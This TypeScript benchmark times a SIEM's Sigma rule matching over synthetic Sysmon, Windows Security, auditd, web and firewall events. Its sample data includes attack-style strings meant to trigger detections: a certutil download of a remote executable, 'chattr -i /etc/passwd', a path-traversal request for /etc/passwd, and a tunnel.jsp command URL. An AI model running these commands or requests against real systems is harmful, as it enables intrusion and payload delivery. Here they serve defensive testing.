/**
 * The detection stage of `npm run bench:siem` over a whole rule corpus (default: SigmaHQ's, in
 * test/fixtures/sigma-corpus, with the example placeholder values): every rule file compiled the
 * way the correlator agent loads a team's folder (`--rules`), then run over a mix of events as a
 * city's collectors see them — Sysmon process creations and network connections and Security
 * 4688/4625 as Windows event JSON, Linux audit records, web server access logs as ECS JSON,
 * firewall records — each parsed by the collector's parser first. Reports events/s and
 * rules × events/s (medians over rounds), and per event kind: µs per event, the rules its
 * logsource lets see it, the share of time spent deciding that (logsource) vs matching.
 */
import { performance } from 'node:perf_hooks'
import { parseEvent } from '../src/siem/parsers.js'
import type { SiemEvent } from '../src/siem/ecs.js'
import { evaluate, type SigmaRule } from '../src/siem/sigma/detection.js'
import { loadPlaceholders, loadTeamRules } from '../src/siem/team-rules.js'
import { Rng } from '../src/util/rng.js'
import { median, round } from './stats.js'

const T0 = Date.UTC(2026, 10, 24, 10, 0, 0)
const SYSMON = 'Microsoft-Windows-Sysmon/Operational'

function evtx(channel: string, provider: string, eventId: number, data: Record<string, string>, i: number): string {
  return JSON.stringify({
    Event: {
      System: {
        Provider: { '#attributes': { Name: provider } }, EventID: eventId, Channel: channel, Computer: `ws-${i % 40}.city.example`,
        EventRecordID: 1000 + i, TimeCreated: { '#attributes': { SystemTime: new Date(T0 + i).toISOString() } },
      },
      EventData: data,
    },
  })
}

// process images and command lines an office network runs, a few of them the tools attackers use
const PROCS: Array<[string, string]> = [
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"chrome.exe" --type=renderer --lang=nl --field-trial-handle=1740'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir C:\\Users\\alice\\Documents'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -Command Get-Service | Where-Object Status -eq Running'],
  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"WINWORD.EXE" /n "C:\\Users\\bob\\Documents\\report.docx"'],
  ['C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://198.51.100.7/a.exe a.exe'],
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL'],
  ['C:\\Windows\\System32\\reg.exe', 'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
  ['C:\\Windows\\System32\\schtasks.exe', 'schtasks /query /fo LIST'],
  ['C:\\Windows\\System32\\net.exe', 'net user /domain'],
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
]
const LINUX = [['/usr/bin/ls', 'ls', '-la /var/log'], ['/usr/bin/curl', 'curl', '-s https://updates.city.example/feed'], ['/usr/bin/chattr', 'chattr', '-i /etc/passwd'], ['/usr/sbin/useradd', 'useradd', '-m backup'], ['/usr/bin/python3', 'python3', '/opt/app/worker.py'], ['/usr/bin/systemctl', 'systemctl', 'status nginx']]
const URLS = ['/index.html', '/api/v1/bins?district=3', '/static/app.js?v=42', '/login', '/cgi-bin/../../../etc/passwd', '/tunnel.jsp?cmd=connect&target=10.0.0.5', '/wp-admin/admin-ajax.php', '/search?q=tram+schedule']
const AGENTS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0', 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Firefox/133.0', 'curl/8.5.0', 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1']

export const KINDS = ['sysmon_process', 'sysmon_network', 'security_4688', 'security_4625', 'auditd', 'web', 'firewall'] as const
type Kind = (typeof KINDS)[number]
/** shares of the mix, in per cent */
const SHARE: Record<Kind, number> = { sysmon_process: 25, sysmon_network: 10, security_4688: 10, security_4625: 5, auditd: 15, web: 20, firewall: 15 }

function line(kind: Kind, i: number, rng: Rng): string {
  const ip = `203.0.113.${rng.int(250)}`
  switch (kind) {
    case 'sysmon_process': {
      const [image, cmd] = PROCS[rng.int(PROCS.length)]!
      const [parent] = PROCS[rng.int(PROCS.length)]!
      return evtx(SYSMON, 'Microsoft-Windows-Sysmon', 1, { RuleName: '-', UtcTime: '2026-11-24 10:00:00.000', ProcessId: String(1000 + i), Image: image, CommandLine: cmd, CurrentDirectory: 'C:\\Users\\alice\\', User: 'CITY\\alice', IntegrityLevel: 'Medium', Hashes: 'SHA256=' + '0'.repeat(64), ParentImage: parent, ParentCommandLine: parent, OriginalFileName: image.split('\\').pop()!.toUpperCase() }, i)
    }
    case 'sysmon_network': {
      const [image] = PROCS[rng.int(PROCS.length)]!
      return evtx(SYSMON, 'Microsoft-Windows-Sysmon', 3, { RuleName: '-', UtcTime: '2026-11-24 10:00:00.000', ProcessId: String(1000 + i), Image: image, User: 'CITY\\alice', Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.1.17', SourcePort: String(50000 + (i % 10000)), DestinationIp: ip, DestinationPort: String([443, 80, 445, 3389, 4444][rng.int(5)]), DestinationHostname: 'host.example' }, i)
    }
    case 'security_4688': {
      const [image, cmd] = PROCS[rng.int(PROCS.length)]!
      return evtx('Security', 'Microsoft-Windows-Security-Auditing', 4688, { SubjectUserName: 'alice', SubjectDomainName: 'CITY', NewProcessName: image, CommandLine: cmd, ParentProcessName: 'C:\\Windows\\explorer.exe', TokenElevationType: '%%1938', MandatoryLabel: 'S-1-16-8192' }, i)
    }
    case 'security_4625':
      return evtx('Security', 'Microsoft-Windows-Security-Auditing', 4625, { TargetUserName: ['admin', 'alice', 'svc-backup'][rng.int(3)]!, TargetDomainName: 'CITY', Status: '0xC000006D', SubStatus: '0xC000006A', LogonType: '3', IpAddress: ip, WorkstationName: 'ATTACKER' }, i)
    case 'auditd': {
      const [exe, comm, args] = LINUX[rng.int(LINUX.length)]!
      const argv = [comm, ...args!.split(' ')]
      return rng.int(2) === 0
        ? `type=EXECVE msg=audit(${(T0 + i) / 1000}:${i}): argc=${argv.length} ${argv.map((a, k) => `a${k}="${a}"`).join(' ')}`
        : `type=SYSCALL msg=audit(${(T0 + i) / 1000}:${i}): arch=c000003e syscall=59 success=yes exit=0 ppid=1200 pid=${2000 + i} auid=1000 uid=0 comm="${comm}" exe="${exe}" key="exec"`
    }
    case 'web':
      return JSON.stringify({
        '@timestamp': new Date(T0 + i).toISOString(), source: { ip }, destination: { ip: '10.0.0.80', port: 443 },
        url: { original: URLS[rng.int(URLS.length)] }, http: { request: { method: rng.int(4) === 0 ? 'POST' : 'GET' }, response: { status_code: [200, 404, 302][rng.int(3)] } },
        user_agent: { original: AGENTS[rng.int(AGENTS.length)] },
      })
    case 'firewall':
      return JSON.stringify({ timestamp: new Date(T0 + i).toISOString(), src_ip: ip, src_port: 40000 + (i % 20000), dst_ip: `10.0.0.${rng.int(200)}`, dst_port: [23, 22, 80, 443, 21, 3389][rng.int(6)], proto: 'tcp', action: ['accept', 'drop'][rng.int(2)] })
  }
}

/** The mix: `n` lines, kinds interleaved by their shares, deterministic. */
export function detectionMix(n: number): Array<{ kind: Kind; line: string }> {
  const rng = new Rng(18)
  const deck = KINDS.flatMap((k) => Array<Kind>(SHARE[k]).fill(k))
  return Array.from({ length: n }, (_, i) => {
    const kind = deck[rng.int(deck.length)]!
    return { kind, line: line(kind, i, rng) }
  })
}

export interface CorpusDetectionResult {
  corpus: string
  rule_files: number
  refused: number
  detection_rules: number
  compile_ms: number
  events: number
  rounds: number
  events_per_s: number
  rules_x_events_per_s: number
  events_per_s_rounds: number[]
  /** per CPU-second of the process: what one free core gives */
  events_per_cpu_s: number
  rules_x_events_per_cpu_s: number
  parse_us_per_event: number
  logsource_share: number
  per_kind: Record<string, { events: number; us_per_event: number; applicable_rules: number; matches_per_event: number }>
}

export function corpusDetection(corpus: string, placeholders: string, n: number, rounds: number): CorpusDetectionResult {
  const c0 = performance.now()
  const team = loadTeamRules(corpus, { placeholders: loadPlaceholders(placeholders) })
  const compileMs = performance.now() - c0
  const rules = team.rules.detection
  const mix = detectionMix(n)
  const p0 = performance.now()
  const events = mix.map((m) => ({ kind: m.kind, e: parseEvent(m.line, 'auto', { receivedAt: T0, observer: { name: 'bench', type: 'collector' } }).event }))
  const parseUs = ((performance.now() - p0) * 1000) / n

  const perKindUs = new Map<Kind, number[]>(KINDS.map((k) => [k, []]))
  const perS: number[] = []
  const perCpuS: number[] = []
  const roundMs: number[] = []
  let matches = new Map<Kind, number>()
  for (let r = 0; r < rounds; r++) {
    const spent = new Map<Kind, number>()
    matches = new Map()
    const c0 = process.cpuUsage()
    const t0 = performance.now()
    for (const { kind, e } of events) {
      const a = performance.now()
      const m = evaluate(rules, e).length
      spent.set(kind, (spent.get(kind) ?? 0) + performance.now() - a)
      matches.set(kind, (matches.get(kind) ?? 0) + m)
    }
    roundMs.push(performance.now() - t0)
    const c = process.cpuUsage(c0)
    perCpuS.push(n / ((c.user + c.system) / 1e6))
    perS.push(n / (roundMs[r]! / 1000))
    for (const k of KINDS) perKindUs.get(k)!.push(spent.get(k) ?? 0)
  }

  // the logsource decision alone: one `applies` per distinct logsource, per event
  const applies = [...new Set(rules.map((r) => r.applies))]
  const l0 = performance.now()
  for (const { e } of events) for (const f of applies) f(e)
  const logsourceMs = performance.now() - l0
  const detectMs = median(roundMs)

  const applicable = (e: SiemEvent, rs: SigmaRule[]) => rs.filter((r) => r.applies(e)).length
  const perKind: CorpusDetectionResult['per_kind'] = {}
  for (const k of KINDS) {
    const evs = events.filter((x) => x.kind === k)
    if (!evs.length) continue
    perKind[k] = {
      events: evs.length,
      us_per_event: round((median(perKindUs.get(k)!) * 1000) / evs.length, 1),
      applicable_rules: round(evs.slice(0, 50).reduce((s, x) => s + applicable(x.e, rules), 0) / Math.min(evs.length, 50), 0),
      matches_per_event: round((matches.get(k) ?? 0) / evs.length, 3),
    }
  }
  const eps = median(perS)
  return {
    corpus,
    rule_files: team.loaded + team.refusals.length,
    refused: team.refusals.length,
    detection_rules: rules.length,
    compile_ms: round(compileMs, 0),
    events: n,
    rounds,
    events_per_s: round(eps, 0),
    rules_x_events_per_s: round(eps * rules.length, 0),
    events_per_s_rounds: perS.map((x) => round(x, 0)),
    events_per_cpu_s: round(median(perCpuS), 0),
    rules_x_events_per_cpu_s: round(median(perCpuS) * rules.length, 0),
    parse_us_per_event: round(parseUs, 1),
    logsource_share: round(logsourceMs / Math.max(detectMs, 1e-9), 3),
    per_kind: perKind,
  }
}
